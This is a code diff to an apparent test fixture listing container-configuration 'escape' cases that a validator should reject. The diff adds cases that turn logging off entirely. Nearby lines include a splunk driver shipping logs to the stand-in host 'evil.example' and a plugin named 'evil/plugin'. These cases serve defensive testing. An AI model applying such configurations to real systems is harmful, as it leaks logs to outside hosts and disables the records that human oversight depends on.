@@ -64,6 +64,8 @@ export const hardwareEscapes: readonly EscapeCase[] = [
     'sends the log away',
     'logging: {driver: splunk, options: {splunk-url: "http://evil.example"}}',
   ),
+  service('logging-none', 'logging.none', 'no log at all', 'logging: {driver: none}'),
+  host('logging-none-body', 'logging.none', 'no log at all', { LogConfig: { Type: 'none', Config: {} } }),
   service('logging-plugin', 'logging.driver', 'a plugin', 'logging: {driver: evil/plugin}'),
   service(
     'logging-option',
